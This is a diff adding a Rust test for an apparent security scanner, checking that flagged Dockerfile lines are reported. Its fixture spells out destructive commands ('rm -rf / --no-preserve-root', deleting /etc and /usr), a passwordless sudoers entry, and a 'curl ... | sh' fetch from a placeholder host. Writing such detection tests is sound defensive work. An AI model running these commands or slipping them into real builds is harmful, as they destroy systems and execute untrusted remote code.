@@ -131,3 +131,30 @@ fn rules_of_one_s_own_are_asked_too() {
     let ran = test.run(&["scan", "a.sh", "--policy", "../p.yaml", "--no-baseline"]);
     assert!(ran.stdout.starts_with("a.sh:2: deny no-docker — no\n    docker ps\n"), "{}", ran.stdout);
 }
+
+#[test]
+fn an_image_is_its_builders_own_but_not_all_of_it() {
+    let test = TestContext::new();
+    let text = "FROM debian\n\
+        RUN apt-get update && rm -rf /var/lib/apt/lists/* /usr/share/doc && rm -rf \"$CACHE\"\n\
+        RUN useradd app && echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers && chown -R app /etc/app\n\
+        RUN rm -rf /root/.cache /home/build && chmod -R 777 /srv && echo x > /etc/app.conf\n\
+        RUN apt-get clean && rm -rf /etc\n\
+        RUN rm -rf / --no-preserve-root\n\
+        RUN rm -rf /usr/*\n\
+        RUN cd / && rm -rf *\n\
+        RUN rm -rf /opt/x && curl https://x.example/i.sh | sh\n";
+    test.write("work/Dockerfile", text);
+    let ran = test.run(&[&["scan", "Dockerfile", "--json"], RULES].concat());
+    let answer = ran.json();
+    let found: Vec<_> = answer["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|found| (found["line"].as_u64().unwrap(), found["rule"].as_str().unwrap()))
+        .collect();
+    let lines: Vec<_> = found.iter().map(|(line, _)| *line).collect();
+    assert_eq!(lines, [5, 6, 7, 8, 9], "{found:?}");
+    assert!(found.contains(&(9, "remote-code")), "{found:?}");
+    assert!(found.contains(&(5, "recursive-delete")), "{found:?}");
+}
